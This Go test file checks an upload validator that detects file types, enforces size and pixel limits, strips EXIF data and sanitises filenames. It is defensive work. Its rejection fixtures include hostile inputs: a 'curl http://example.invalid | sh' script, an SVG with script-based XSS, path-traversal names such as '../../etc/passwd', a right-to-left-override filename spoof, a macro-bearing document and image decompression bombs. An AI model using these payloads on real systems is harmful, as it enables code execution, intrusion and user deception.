package media

import (
	"archive/zip"
	"bytes"
	"errors"
	"fmt"
	"image"
	"image/color"
	"image/gif"
	"image/jpeg"
	"image/png"
	"io"
	"math"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/atrium-social/atrium/internal/errs"
)

// Documents, like images, are built in code so that every byte a test depends on is visible.

type zipEntry struct {
	name   string
	body   string
	stored bool // zip.Store rather than zip.Deflate
}

func zipOf(tb testing.TB, entries ...zipEntry) []byte {
	tb.Helper()
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	for _, e := range entries {
		m := zip.Deflate
		if e.stored {
			m = zip.Store
		}
		f, err := w.CreateHeader(&zip.FileHeader{Name: e.name, Method: m})
		if err != nil {
			tb.Fatal(err)
		}
		if _, err := io.WriteString(f, e.body); err != nil {
			tb.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		tb.Fatal(err)
	}
	return buf.Bytes()
}

// ooxml is a minimal Office Open XML package whose main part lives under dir ("word",
// "xl" or "ppt").
func ooxml(tb testing.TB, dir string, extra ...zipEntry) []byte {
	entries := []zipEntry{
		{name: "[Content_Types].xml", body: `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>`},
		{name: "_rels/.rels", body: `<?xml version="1.0"?><Relationships/>`},
		{name: dir + "/main.xml", body: `<?xml version="1.0"?><root/>`},
	}
	return zipOf(tb, append(entries, extra...)...)
}

// odf is a minimal OpenDocument package: "mimetype" first and stored, as the standard says.
func odf(tb testing.TB, mimetype string, stored bool) []byte {
	return zipOf(tb,
		zipEntry{name: "mimetype", body: mimetype, stored: stored},
		zipEntry{name: "content.xml", body: `<?xml version="1.0"?><office:document-content/>`},
		zipEntry{name: "META-INF/manifest.xml", body: `<?xml version="1.0"?><manifest:manifest/>`},
	)
}

// oleFile is a compound file header followed by an empty sector, which is all the check reads.
func oleFile() []byte {
	return append([]byte("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1"), make([]byte, 1024)...)
}

const minimalPDF = "%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"

func TestDefaultUploadLimits(t *testing.T) {
	want := UploadLimits{MaxImageBytes: 8 << 20, MaxDocumentBytes: 25 << 20, MaxPixels: 40_000_000}
	if got := DefaultUploadLimits(); got != want {
		t.Fatalf("DefaultUploadLimits() = %+v, want %+v", got, want)
	}
	if got := (UploadLimits{}).withDefaults(); got != want {
		t.Fatalf("zero limits = %+v, want the defaults", got)
	}
}

func TestProcessUploadDocuments(t *testing.T) {
	tests := []struct {
		name     string
		src      []byte
		declared string
		wantType string
		wantExt  string
		wantName string
	}{
		{"pdf", []byte(minimalPDF), "Q3 report.pdf", "application/pdf", ".pdf", "Q3 report.pdf"},
		{"pdf named as something else", []byte(minimalPDF), "report.exe", "application/pdf", ".pdf", "report.pdf"},
		{"pdf without a name", []byte(minimalPDF), "", "application/pdf", ".pdf", "file.pdf"},
		{"txt", []byte("Agenda\n- budget\n- hiring ✓\n"), "agenda.txt", "text/plain; charset=utf-8", ".txt", "agenda.txt"},
		{"csv", []byte("name,team\nAnn,Sales\n"), "people.CSV", "text/csv; charset=utf-8", ".csv", "people.CSV"},
		{"md", []byte("# Notes\n\n*bold*\n"), "notes.md", "text/markdown; charset=utf-8", ".md", "notes.md"},
		{"md starting with html", []byte("<p align=\"center\">Logo</p>\n\n# Project\n"), "README.markdown", "text/markdown; charset=utf-8", ".md", "README.markdown"},
		{"empty-looking text with BOM", []byte("\xEF\xBB\xBFhello"), "hello.txt", "text/plain; charset=utf-8", ".txt", "hello.txt"},
		{"docx", ooxml(t, "word"), "Contract.docx", typeDOCX.contentType, ".docx", "Contract.docx"},
		{"xlsx", ooxml(t, "xl"), "budget.xlsx", typeXLSX.contentType, ".xlsx", "budget.xlsx"},
		{"pptx", ooxml(t, "ppt"), "deck.pptx", typePPTX.contentType, ".pptx", "deck.pptx"},
		{"xlsx named docx is an xlsx", ooxml(t, "xl"), "budget.docx", typeXLSX.contentType, ".xlsx", "budget.xlsx"},
		{"docx without a name", ooxml(t, "word"), "", typeDOCX.contentType, ".docx", "file.docx"},
		{"docx with an embedded workbook", ooxml(t, "word", zipEntry{name: "word/embeddings/Sheet1.xlsx", body: string(ooxml(t, "xl")), stored: true}), "memo.docx", typeDOCX.contentType, ".docx", "memo.docx"},
		{"odt", odf(t, "application/vnd.oasis.opendocument.text", true), "letter.odt", typeODT.contentType, ".odt", "letter.odt"},
		{"ods", odf(t, "application/vnd.oasis.opendocument.spreadsheet", true), "sheet.ods", typeODS.contentType, ".ods", "sheet.ods"},
		{"odp named .zip", odf(t, "application/vnd.oasis.opendocument.presentation", true), "talk.zip", typeODP.contentType, ".odp", "talk.odp"},
		{"doc", oleFile(), "minutes.doc", "application/msword", ".doc", "minutes.doc"},
		{"xls", oleFile(), "old.XLS", "application/vnd.ms-excel", ".xls", "old.XLS"},
		{"ppt", oleFile(), `C:\Users\ann\slides.ppt`, "application/vnd.ms-powerpoint", ".ppt", "slides.ppt"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p, err := ProcessUpload(bytes.NewReader(tt.src), tt.declared, DefaultUploadLimits())
			if err != nil {
				t.Fatal(err)
			}
			if p.Kind != KindDocument || p.ContentType != tt.wantType || p.Ext != tt.wantExt || p.FileName != tt.wantName {
				t.Errorf("got kind %q, type %q, ext %q, name %q; want document, %q, %q, %q",
					p.Kind, p.ContentType, p.Ext, p.FileName, tt.wantType, tt.wantExt, tt.wantName)
			}
			if !bytes.Equal(p.Data, tt.src) {
				t.Error("document bytes were changed")
			}
			if p.Thumb != nil || p.ThumbType != "" || p.Width != 0 || p.Height != 0 || p.Blurhash != "" {
				t.Errorf("document has image fields: %d thumb bytes, %q, %dx%d, %q", len(p.Thumb), p.ThumbType, p.Width, p.Height, p.Blurhash)
			}
		})
	}
}

func TestProcessUploadRejects(t *testing.T) {
	elf := append([]byte("\x7fELF\x02\x01\x01\x00"), make([]byte, 200)...)
	pe := append([]byte("MZ\x90\x00\x03\x00\x00\x00"), make([]byte, 200)...)
	html := []byte("<!DOCTYPE html><html><body><script>fetch('/api/v1/accounts')</script></body></html>")
	svg := []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>`)
	xmlSVG := []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>`)
	manyEntries := make([]zipEntry, 0, maxArchiveEntries+1)
	manyEntries = append(manyEntries, zipEntry{name: "[Content_Types].xml"}, zipEntry{name: "word/document.xml"})
	for i := len(manyEntries); i <= maxArchiveEntries; i++ {
		manyEntries = append(manyEntries, zipEntry{name: fmt.Sprintf("word/media/%d.bin", i), stored: true})
	}
	docx := ooxml(t, "word")

	tests := []struct {
		name     string
		src      []byte
		declared string
		message  string
	}{
		{"elf", elf, "app", "this type of file cannot be attached"},
		{"elf named txt", elf, "notes.txt", "this is not UTF-8 text"},
		{"windows executable", pe, "setup.exe", "this type of file cannot be attached"},
		{"shell script", []byte("#!/bin/sh\ncurl http://example.invalid | sh\n"), "install.sh", "this type of file cannot be attached"},
		{"shell script without a name", []byte("#!/bin/sh\necho hi\n"), "", "this type of file cannot be attached"},
		{"html", html, "page.html", "this type of file cannot be attached"},
		{"html named txt", html, "page.txt", "text files that contain HTML or XML cannot be attached"},
		{"html comment named csv", []byte("<!-- x -->\n<a href=x>y</a>"), "data.csv", "HTML or XML"},
		{"svg", svg, "logo.svg", "this type of file cannot be attached"},
		{"svg named txt", svg, "logo.txt", "HTML or XML"},
		{"xml svg named csv", xmlSVG, "logo.csv", "HTML or XML"},
		{"json", []byte(`{"a": 1}`), "data.json", "this type of file cannot be attached"},
		{"latin-1 text", []byte("caf\xe9\n"), "menu.txt", "this is not UTF-8 text"},
		{"utf-16 text", []byte("\xff\xfeh\x00i\x00"), "hi.txt", "this is not UTF-8 text"},
		{"empty", nil, "empty.txt", "the file is empty"},
		{"plain zip named docx", zipOf(t, zipEntry{name: "photo.jpg", body: "x"}, zipEntry{name: "word/readme.txt", body: "x"}), "report.docx", "ZIP archives cannot be attached unless they are office documents"},
		{"zip of content types only", zipOf(t, zipEntry{name: "[Content_Types].xml", body: "<Types/>"}), "report.docx", "unless they are office documents"},
		{"zip bomb-like many entries", zipOf(t, manyEntries...), "big.docx", "more than 2000 entries"},
		{"truncated docx", docx[:len(docx)-30], "report.docx", "this ZIP archive is damaged"},
		{"ambiguous ooxml", zipOf(t, zipEntry{name: "[Content_Types].xml"}, zipEntry{name: "word/a.xml"}, zipEntry{name: "xl/b.xml"}), "x.zip", "unless they are office documents"},
		{"docx with macros", ooxml(t, "word", zipEntry{name: "word/vbaProject.bin", body: "\xD0\xCF\x11\xE0"}), "invoice.docx", "documents with macros cannot be attached"},
		{"odf with compressed mimetype", odf(t, "application/vnd.oasis.opendocument.text", false), "letter.odt", "unless they are office documents"},
		{"odf of another type", odf(t, "application/vnd.oasis.opendocument.graphics", true), "drawing.odg", "unless they are office documents"},
		{"odf with long mimetype", odf(t, "application/vnd.oasis.opendocument.text"+strings.Repeat(" ", 100), true), "letter.odt", "unless they are office documents"},
		{"ole named msi", oleFile(), "setup.msi", "older Microsoft Office file but is not named .doc, .xls or .ppt"},
		{"ole without a name", oleFile(), "", "older Microsoft Office file"},
		{"bmp", append([]byte("BM"), make([]byte, 60)...), "pic.bmp", "this type of file cannot be attached"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p, err := ProcessUpload(bytes.NewReader(tt.src), tt.declared, DefaultUploadLimits())
			if err == nil {
				t.Fatalf("accepted as %s %q", p.ContentType, p.FileName)
			}
			if p != nil {
				t.Error("non-nil result with an error")
			}
			if !errors.Is(err, ErrUnsupported) || errs.KindOf(err) != errs.Invalid {
				t.Fatalf("err = %v (kind %v), want ErrUnsupported of kind invalid", err, errs.KindOf(err))
			}
			msg := errs.Message(err)
			if !strings.Contains(msg, tt.message) {
				t.Errorf("message %q does not contain %q", msg, tt.message)
			}
			if !strings.Contains(msg, "Accepted are photos (JPEG, PNG, GIF, WebP) and documents") {
				t.Errorf("message %q does not say what is accepted", msg)
			}
		})
	}
}

func TestProcessUploadArchiveEntryLimit(t *testing.T) {
	entries := []zipEntry{{name: "[Content_Types].xml"}, {name: "ppt/presentation.xml"}}
	for i := len(entries); i < maxArchiveEntries; i++ {
		entries = append(entries, zipEntry{name: fmt.Sprintf("ppt/slides/slide%d.xml", i), stored: true})
	}
	p, err := ProcessUpload(bytes.NewReader(zipOf(t, entries...)), "deck.pptx", UploadLimits{})
	if err != nil {
		t.Fatalf("%d entries: %v", maxArchiveEntries, err)
	}
	if p.Ext != ".pptx" {
		t.Errorf("Ext = %q", p.Ext)
	}
}

func TestProcessUploadSizeLimits(t *testing.T) {
	png64 := encPNG(t, halves(64, 64, red, blue))
	pdf := []byte(minimalPDF)
	tests := []struct {
		name    string
		r       io.Reader
		lim     UploadLimits
		message string
	}{
		{"image over its limit", bytes.NewReader(png64), UploadLimits{MaxImageBytes: 100, MaxDocumentBytes: 1 << 20}, "image is larger than 100 bytes"},
		{"document over its limit", bytes.NewReader(pdf), UploadLimits{MaxImageBytes: 1 << 20, MaxDocumentBytes: 64}, "file is larger than 64 bytes"},
		{"endless image", io.MultiReader(strings.NewReader("\x89PNG\r\n\x1a\n"), zeros{}), UploadLimits{}, "image is larger than 8 MiB"},
		{"endless document", io.MultiReader(strings.NewReader("%PDF-1.7\n"), zeros{}), UploadLimits{MaxDocumentBytes: 3 << 20}, "file is larger than 3 MiB"},
		{"image bomb", bytes.NewReader(pngHeaderOnly(100000, 100000)), UploadLimits{}, "image is 100000×100000 pixels, more than 40 megapixels"},
		{"jpeg bomb", bytes.NewReader(jpegClaiming(t, 65000, 65000)), UploadLimits{}, "more than 40 megapixels"},
		{"gif bomb", bytes.NewReader(gifClaiming(65535, 65535)), UploadLimits{}, "more than 40 megapixels"},
		{"over custom MaxPixels", bytes.NewReader(png64), UploadLimits{MaxPixels: 4095}, "more than 4095 pixels"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := ProcessUpload(tt.r, "x", tt.lim)
			if !errors.Is(err, ErrTooLarge) || errs.KindOf(err) != errs.TooLarge {
				t.Fatalf("err = %v, want ErrTooLarge of kind too_large", err)
			}
			if msg := errs.Message(err); !strings.Contains(msg, tt.message) {
				t.Errorf("message %q does not contain %q", msg, tt.message)
			}
		})
	}

	// Exactly at the limit is accepted, for each kind.
	if _, err := ProcessUpload(bytes.NewReader(png64), "a.png", UploadLimits{MaxImageBytes: int64(len(png64))}); err != nil {
		t.Errorf("image of exactly MaxImageBytes: %v", err)
	}
	if _, err := ProcessUpload(bytes.NewReader(pdf), "a.pdf", UploadLimits{MaxDocumentBytes: int64(len(pdf))}); err != nil {
		t.Errorf("document of exactly MaxDocumentBytes: %v", err)
	}
	if _, err := ProcessUpload(bytes.NewReader(pdf), "a.pdf", UploadLimits{MaxImageBytes: math.MaxInt64, MaxDocumentBytes: math.MaxInt64}); err != nil {
		t.Errorf("limits of MaxInt64: %v", err)
	}
	// Documents are held to their own limit, not the smaller image one.
	big := append([]byte(minimalPDF), make([]byte, 2000)...)
	if _, err := ProcessUpload(bytes.NewReader(big), "a.pdf", UploadLimits{MaxImageBytes: 1000, MaxDocumentBytes: 4000}); err != nil {
		t.Errorf("document over the image limit: %v", err)
	}
}

// rgbaHalves is halves as RGBA, which the JPEG encoder converts quickly: large test images
// would otherwise take seconds to build.
func rgbaHalves(w, h int, l, r color.Color) *image.RGBA {
	img := image.NewRGBA(image.Rect(0, 0, w, h))
	fill(img, image.Rect(0, 0, w/2, h), l)
	fill(img, image.Rect(w/2, 0, w, h), r)
	return img
}

// decodeOutput decodes b with the decoder that contentType names, so that a mislabelled
// output fails the test.
func decodeOutput(t *testing.T, b []byte, contentType string, w, h int) image.Image {
	t.Helper()
	var img image.Image
	var err error
	switch contentType {
	case "image/jpeg":
		img, err = jpeg.Decode(bytes.NewReader(b))
	case "image/png":
		img, err = png.Decode(bytes.NewReader(b))
	default:
		t.Fatalf("content type %q", contentType)
	}
	if err != nil {
		t.Fatalf("decode %s output: %v", contentType, err)
	}
	if got := img.Bounds(); got != image.Rect(0, 0, w, h) {
		t.Fatalf("output bounds %v, want %dx%d", got, w, h)
	}
	return img
}

func noMetadata(t *testing.T, name string, b []byte) {
	t.Helper()
	for _, leak := range []string{"Exif", "MM\x00\x2a", "II\x2a\x00"} {
		if bytes.Contains(b, []byte(leak)) {
			t.Errorf("%s contains %q: metadata survived", name, leak)
		}
	}
}

func TestProcessUploadJPEGStripsExifAndDownscales(t *testing.T) {
	src := withSegment(encJPEG(t, rgbaHalves(4000, 3000, red, blue)), 0xE1, exifPayload(1, true))
	if !bytes.Contains(src, []byte("Exif")) {
		t.Fatal("test input lacks the EXIF segment it is meant to exercise")
	}
	p, err := ProcessUpload(bytes.NewReader(src), "IMG_0042.JPG", DefaultUploadLimits())
	if err != nil {
		t.Fatal(err)
	}
	if p.Kind != KindImage || p.ContentType != "image/jpeg" || p.Ext != ".jpg" || p.ThumbType != "image/jpeg" || p.FileName != "IMG_0042.JPG" {
		t.Errorf("got %q %q %q thumb %q name %q", p.Kind, p.ContentType, p.Ext, p.ThumbType, p.FileName)
	}
	if p.Width != 2048 || p.Height != 1536 {
		t.Errorf("size %dx%d, want 2048x1536", p.Width, p.Height)
	}
	noMetadata(t, "Data", p.Data)
	noMetadata(t, "Thumb", p.Thumb)
	full := decodeOutput(t, p.Data, p.ContentType, 2048, 1536)
	thumb := decodeOutput(t, p.Thumb, p.ThumbType, 400, 300)
	for _, c := range []struct {
		img  image.Image
		x, y int
		want string
	}{{full, 500, 768, "red"}, {full, 1500, 768, "blue"}, {thumb, 100, 150, "red"}, {thumb, 300, 150, "blue"}} {
		if got := nearest(c.img.At(c.x, c.y)); got != c.want {
			t.Errorf("pixel (%d,%d) of %v is %s, want %s", c.x, c.y, c.img.Bounds().Size(), got, c.want)
		}
	}
	if len(p.Blurhash) != 6+2*15 {
		t.Errorf("Blurhash %q has %d characters, want 36", p.Blurhash, len(p.Blurhash))
	}
}

func TestProcessUploadJPEGOrientation(t *testing.T) {
	// Stored sideways as 2600×1300, left half red; orientation 6 turns it a quarter clockwise,
	// after which it is 1024×2048 with red on top.
	src := withSegment(encJPEG(t, rgbaHalves(2600, 1300, red, blue)), 0xE1, exifPayload(6, true))
	p, err := ProcessUpload(bytes.NewReader(src), "portrait.jpg", UploadLimits{})
	if err != nil {
		t.Fatal(err)
	}
	if p.Width != 1024 || p.Height != 2048 {
		t.Fatalf("size %dx%d, want 1024x2048", p.Width, p.Height)
	}
	full := decodeOutput(t, p.Data, p.ContentType, 1024, 2048)
	thumb := decodeOutput(t, p.Thumb, p.ThumbType, 200, 400)
	for _, c := range []struct {
		img  image.Image
		x, y int
		want string
	}{{full, 512, 500, "red"}, {full, 512, 1500, "blue"}, {thumb, 100, 100, "red"}, {thumb, 100, 300, "blue"}} {
		if got := nearest(c.img.At(c.x, c.y)); got != c.want {
			t.Errorf("pixel (%d,%d) of %v is %s, want %s", c.x, c.y, c.img.Bounds().Size(), got, c.want)
		}
	}

	// Orientation applies to images that need no scaling too.
	small := withSegment(encJPEG(t, halves(200, 100, red, blue)), 0xE1, exifPayload(6, false))
	p, err = ProcessUpload(bytes.NewReader(small), "small.jpg", UploadLimits{})
	if err != nil {
		t.Fatal(err)
	}
	img := decodeOutput(t, p.Data, p.ContentType, 100, 200)
	if top, bottom := nearest(img.At(50, 50)), nearest(img.At(50, 150)); top != "red" || bottom != "blue" {
		t.Errorf("small image: top %s, bottom %s; want red, blue", top, bottom)
	}
	noMetadata(t, "small Data", p.Data)
}

func TestProcessUploadImageFormats(t *testing.T) {
	withAlpha := halves(600, 300, red, blue)
	fill(withAlpha, image.Rect(280, 130, 320, 170), transparent)
	paletted := image.NewPaletted(image.Rect(0, 0, 50, 40), color.Palette{red, blue})
	tests := []struct {
		name             string
		src              []byte
		declared         string
		dataType, thumbT string
		w, h             int
		thumbW, thumbH   int
		wantName         string
	}{
		{"png with alpha keeps png thumb", encPNG(t, withAlpha), "diagram.png", "image/png", "image/png", 600, 300, 400, 200, "diagram.png"},
		{"opaque png stays png, thumb jpeg", encPNG(t, halves(3000, 1000, red, blue)), "screenshot.png", "image/png", "image/jpeg", 2048, 683, 400, 133, "screenshot.png"},
		{"small jpeg is not upscaled", encJPEG(t, halves(120, 60, red, blue)), "tiny.jpeg", "image/jpeg", "image/jpeg", 120, 60, 120, 60, "tiny.jpeg"},
		{"tall image", encJPEG(t, rgbaHalves(500, 5000, red, blue)), "tall", "image/jpeg", "image/jpeg", 205, 2048, 40, 400, "tall.jpg"},
		{"gif", encGIF(t, paletted), "anim.gif", "image/png", "image/jpeg", 50, 40, 50, 40, "anim.png"},
		{"webp becomes jpeg", solidWebP(120, 80, green), "photo.webp", "image/jpeg", "image/jpeg", 120, 80, 120, 80, "photo.jpg"},
		{"webp with alpha becomes png", solidWebP(120, 80, color.NRGBA{0, 255, 0, 128}), "sticker.webp", "image/png", "image/png", 120, 80, 120, 80, "sticker.png"},
		{"image named as a document", encJPEG(t, halves(64, 64, red, blue)), "../../report.pdf", "image/jpeg", "image/jpeg", 64, 64, 64, 64, "report.jpg"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p, err := ProcessUpload(bytes.NewReader(tt.src), tt.declared, DefaultUploadLimits())
			if err != nil {
				t.Fatal(err)
			}
			if p.Kind != KindImage || p.ContentType != tt.dataType || p.ThumbType != tt.thumbT || p.FileName != tt.wantName {
				t.Fatalf("got %q %q thumb %q name %q; want image %q thumb %q name %q",
					p.Kind, p.ContentType, p.ThumbType, p.FileName, tt.dataType, tt.thumbT, tt.wantName)
			}
			if want := map[string]string{"image/jpeg": ".jpg", "image/png": ".png"}[p.ContentType]; p.Ext != want {
				t.Errorf("Ext = %q, want %q", p.Ext, want)
			}
			if p.Width != tt.w || p.Height != tt.h {
				t.Errorf("size %dx%d, want %dx%d", p.Width, p.Height, tt.w, tt.h)
			}
			decodeOutput(t, p.Data, p.ContentType, tt.w, tt.h)
			decodeOutput(t, p.Thumb, p.ThumbType, tt.thumbW, tt.thumbH)
			if p.Blurhash == "" {
				t.Error("no Blurhash")
			}
		})
	}
}

func TestProcessUploadGIFUsesFirstFrame(t *testing.T) {
	frame := func(c color.Color) *image.Paletted {
		m := image.NewPaletted(image.Rect(0, 0, 60, 30), color.Palette{red, blue})
		fill(m, m.Rect, c)
		return m
	}
	var buf bytes.Buffer
	if err := gif.EncodeAll(&buf, &gif.GIF{Image: []*image.Paletted{frame(red), frame(blue)}, Delay: []int{10, 10}}); err != nil {
		t.Fatal(err)
	}
	p, err := ProcessUpload(&buf, "party.gif", UploadLimits{})
	if err != nil {
		t.Fatal(err)
	}
	img := decodeOutput(t, p.Data, p.ContentType, 60, 30)
	if got := nearest(img.At(30, 15)); got != "red" {
		t.Errorf("still image is %s, want the first frame's red", got)
	}
	if bytes.Contains(p.Data, []byte("NETSCAPE")) || !bytes.HasPrefix(p.Data, []byte("\x89PNG")) {
		t.Error("Data is not a still PNG")
	}
}

func TestProcessUploadUndecodableImage(t *testing.T) {
	src := encPNG(t, halves(64, 64, red, blue))[:100]
	_, err := ProcessUpload(bytes.NewReader(src), "broken.png", UploadLimits{})
	if !errors.Is(err, ErrUnsupported) || errs.KindOf(err) != errs.Invalid {
		t.Fatalf("err = %v, want ErrUnsupported", err)
	}
	if msg := errs.Message(err); !strings.Contains(msg, "could not be read") {
		t.Errorf("message %q", msg)
	}
}

func TestCleanFileName(t *testing.T) {
	tests := []struct{ in, want string }{
		{"../../etc/passwd", "passwd"},
		{"/etc/passwd", "passwd"},
		{`C:\Users\ann\Desktop\Q3 report.pdf`, "Q3 report.pdf"},
		{"..\\..\\boot.ini", "boot.ini"},
		{"a\x00b\nc\td\x7fe\u0085.pdf", "abcde.pdf"},
		{"invoice\u202Efdp.exe", "invoicefdp.exe"},
		{"\u2066bad\u2069\u200F.txt", "bad.txt"},
		{"\ufeffbom.txt", "bom.txt"},
		{"  .hidden.txt . ", "hidden.txt"},
		{"\xff\xfe", ""},
		{"caf\xe9.txt", "caf.txt"},
		{"..", ""},
		{"dir/", ""},
		{"", ""},
		{"Ünïcødé 报告 📎.docx", "Ünïcødé 报告 📎.docx"},
		{strings.Repeat("a", 300), strings.Repeat("a", 200)},
		{strings.Repeat("é", 150), strings.Repeat("é", 100)},
	}
	for _, tt := range tests {
		if got := cleanFileName(tt.in); got != tt.want {
			t.Errorf("cleanFileName(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestFileNameFor(t *testing.T) {
	tests := []struct {
		in   string
		t    fileType
		want string
	}{
		{"../../etc/passwd", typePDF, "passwd.pdf"},
		{"report.exe", typePDF, "report.pdf"},
		{"report.pdf.exe", typePDF, "report.pdf"},
		{"Report.PDF", typePDF, "Report.PDF"},
		{"v1.2 final", typePDF, "v1.2 final.pdf"},
		{"holiday.webp", typeJPEG, "holiday.jpg"},
		{"holiday.jpeg", typeJPEG, "holiday.jpeg"},
		{"", typePDF, "file.pdf"},
		{"\x00\x01", typeDOCX, "file.docx"},
		{".pdf", typePDF, "pdf.pdf"},
		{"notes.markdown", typeMD, "notes.markdown"},
		{strings.Repeat("a", 300) + ".pdf", typePDF, strings.Repeat("a", 196) + ".pdf"},
		{strings.Repeat("é", 150) + ".docx", typeDOCX, strings.Repeat("é", 97) + ".docx"},
		{strings.Repeat("x", 195) + " .txt", typeTXT, strings.Repeat("x", 195) + ".txt"},
		{strings.Repeat("b", 250) + ".jpeg", typeJPEG, strings.Repeat("b", 195) + ".jpeg"},
	}
	for _, tt := range tests {
		got := fileNameFor(tt.in, tt.t)
		if got != tt.want {
			t.Errorf("fileNameFor(%q, %s) = %q, want %q", tt.in, tt.t.ext, got, tt.want)
		}
		if len(got) > maxFileNameLen || !utf8.ValidString(got) {
			t.Errorf("fileNameFor(%q) = %q: %d bytes, valid UTF-8 %v", tt.in, got, len(got), utf8.ValidString(got))
		}
	}
}

// photo is a gradient with noise, so that its JPEG costs as much to decode as a photo.
func photo(w, h int) *image.RGBA {
	img := image.NewRGBA(image.Rect(0, 0, w, h))
	seed := uint32(1)
	for i := 0; i < len(img.Pix); i += 4 {
		seed = seed*1664525 + 1013904223
		x, y := (i/4)%w, (i/4)/w
		img.Pix[i] = uint8(x/12) ^ uint8(seed>>24)&0x1f
		img.Pix[i+1] = uint8(y/8) ^ uint8(seed>>16)&0x1f
		img.Pix[i+2] = uint8((x+y)/20) ^ uint8(seed>>8)&0x1f
		img.Pix[i+3] = 0xff
	}
	return img
}

func BenchmarkProcessUploadJPEG(b *testing.B) {
	src := withSegment(encJPEG(b, photo(3000, 2000)), 0xE1, exifPayload(6, true))
	b.SetBytes(int64(len(src)))
	b.ReportAllocs()
	for b.Loop() {
		p, err := ProcessUpload(bytes.NewReader(src), "IMG_0001.jpg", DefaultUploadLimits())
		if err != nil {
			b.Fatal(err)
		}
		if p.Width != 1365 || p.Height != 2048 {
			b.Fatalf("size %dx%d", p.Width, p.Height)
		}
	}
}

func FuzzProcessUpload(f *testing.F) {
	f.Add(withSegment(encJPEG(f, quadrants(32)), 0xE1, exifPayload(6, true)), "a.jpg")
	f.Add(encPNG(f, halves(20, 10, red, transparent)), "b.png")
	f.Add(encGIF(f, image.NewPaletted(image.Rect(0, 0, 8, 8), color.Palette{red, transparent})), "c.gif")
	f.Add(solidWebP(9, 7, color.NRGBA{1, 2, 3, 4}), "d.webp")
	f.Add(pngHeaderOnly(100000, 100000), "bomb.png")
	f.Add([]byte(minimalPDF), "../e.pdf")
	f.Add([]byte("a,b\n1,2\n"), "f.csv")
	f.Add([]byte("<html>"), "g.txt")
	f.Add(ooxml(f, "word"), "h.docx")
	f.Add(ooxml(f, "xl", zipEntry{name: "xl/vbaProject.bin"}), "i.xlsx")
	f.Add(odf(f, "application/vnd.oasis.opendocument.text", true), "j.odt")
	f.Add(oleFile(), "k.doc")
	f.Add([]byte("#!/bin/sh\n"), "l\u202E.sh")
	// Small limits keep each run fast; the code paths are the same as with the defaults.
	lim := UploadLimits{MaxImageBytes: 1 << 20, MaxDocumentBytes: 1 << 20, MaxPixels: 1 << 20}
	f.Fuzz(func(t *testing.T, data []byte, name string) {
		p, err := ProcessUpload(bytes.NewReader(data), name, lim)
		if err != nil {
			if p != nil {
				t.Fatal("non-nil result with an error")
			}
			if !errors.Is(err, ErrUnsupported) && !errors.Is(err, ErrTooLarge) {
				t.Fatalf("unclassified error: %v", err)
			}
			return
		}
		n := p.FileName
		if n == "" || len(n) > maxFileNameLen || !utf8.ValidString(n) || strings.ContainsAny(n, `/\`) ||
			strings.IndexFunc(n, func(r rune) bool { return unicode.IsControl(r) || invisible(r) }) >= 0 {
			t.Fatalf("bad file name %q", n)
		}
		if !strings.HasSuffix(strings.ToLower(n), p.Ext) && !strings.HasSuffix(strings.ToLower(n), ".jpeg") &&
			!strings.HasSuffix(strings.ToLower(n), ".jpe") && !strings.HasSuffix(strings.ToLower(n), ".markdown") {
			t.Fatalf("file name %q does not end in %q", n, p.Ext)
		}
		if err := ValidateKey("a/b" + p.Ext); err != nil {
			t.Fatalf("Ext %q cannot end a key: %v", p.Ext, err)
		}
		switch p.Kind {
		case KindDocument:
			if !bytes.Equal(p.Data, data) || p.Thumb != nil {
				t.Fatal("document changed or has a thumbnail")
			}
		case KindImage:
			if len(p.Data) == 0 || len(p.Thumb) == 0 || p.Width < 1 || p.Height < 1 ||
				p.Width > MaxImageSide || p.Height > MaxImageSide {
				t.Fatalf("bad image: %d, %d bytes, %dx%d", len(p.Data), len(p.Thumb), p.Width, p.Height)
			}
		default:
			t.Fatalf("kind %q", p.Kind)
		}
	})
}
